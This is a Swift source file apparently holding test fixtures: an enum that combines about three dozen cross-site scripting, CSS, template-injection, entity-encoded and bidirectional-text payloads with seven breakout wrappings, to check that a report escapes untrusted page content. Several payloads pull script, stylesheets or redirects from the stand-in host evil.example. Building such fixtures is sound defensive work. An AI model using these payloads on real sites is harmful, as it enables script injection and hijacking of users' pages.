/// Two hundred and more things a page or a submission could say to break out of a report: script,
/// style, SVG, templates, entities, comments and writing that runs backwards, each in several
/// wrappings.
enum HostileStrings {
    static let all: [String] = payloads.flatMap { payload in
        wrappings.map { $0.replacing("§", with: payload) }
    }

    private static let payloads = [
        "<script>window.pwned=1;alert(1)</script>", "<script src=//evil.example/x.js></script>",
        "<img src=x onerror=\"window.pwned=1\">", "<svg onload=window.pwned=1>",
        "<svg><script>window.pwned=1</script></svg>", "<svg><animate onbegin=window.pwned=1 />",
        "<style>*{display:none}</style>", "<style>@import 'http://evil.example/x.css';</style>",
        "<link rel=stylesheet href=http://evil.example/x.css>", "<base href=http://evil.example/>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
        "<object data=javascript:window.pwned=1></object>", "<embed src=//evil.example/x.swf>",
        "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
        "<form action=http://evil.example/><button autofocus onfocus=window.pwned=1>",
        "<details open ontoggle=window.pwned=1>", "<template><img src=x onerror=window.pwned=1>",
        "{{constructor.constructor('window.pwned=1')()}}", "${window.pwned=1}",
        "<%= window.pwned=1 %>",
        "#{window.pwned=1}", "javascript:window.pwned=1",
        "data:text/html,<script>alert(1)</script>",
        "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\u{202E}gnp.exe\u{202C}", "\u{2066}<b>\u{2069}\u{200F}", "\u{FF1C}script\u{FF1E}alert(1)",
        "<math><mtext></p><img src=x onerror=window.pwned=1>",
        "<noscript><p title='</noscript><img>",
        "<a href='javascript:window.pwned=1' target=_top>按我</a>",
        "<marquee onstart=window.pwned=1>",
        "<body onload=window.pwned=1>", "<input autofocus onfocus=window.pwned=1>",
    ]

    private static let wrappings = [
        "§", "\"'>§", "</td></tr></table>§", "</script></style></title>§", "--> ]]>§<!--",
        "<q class=\"§\"", "a\u{0}b\r\n§",
    ]
}
